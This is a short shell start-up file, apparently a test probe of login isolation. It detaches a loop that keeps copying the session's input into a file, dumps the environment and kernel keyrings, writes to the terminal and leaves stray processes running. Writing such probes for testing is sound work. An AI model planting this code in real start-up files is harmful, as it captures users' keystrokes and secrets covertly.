# shellcheck shell=sh
# A start-up file that tries to get something of the process that runs a login: its terminal, its input, its open files;
# and that leaves processes behind, in this session and in others. What it got is in stolen and seen.
exec 3<&0
setsid sh -c 'while :; do head -c 80 <&3 >>"$HOME/stolen" || break; sleep 0.1; done' >/dev/null 2>&1 &
ls -l /proc/self/fd >>"$HOME/seen" 2>&1
# The controlling terminal.
echo "terminal $(cut -d ' ' -f 7 /proc/self/stat)" >>"$HOME/seen"
{ echo owned >/dev/tty; } 2>/dev/null && echo "terminal written to" >>"$HOME/seen"
env >>"$HOME/seen"
cat /proc/keys >>"$HOME/seen" 2>/dev/null
setsid sleep 7771 &
sleep 7772 &
printf '\033]0;owned\007\n'
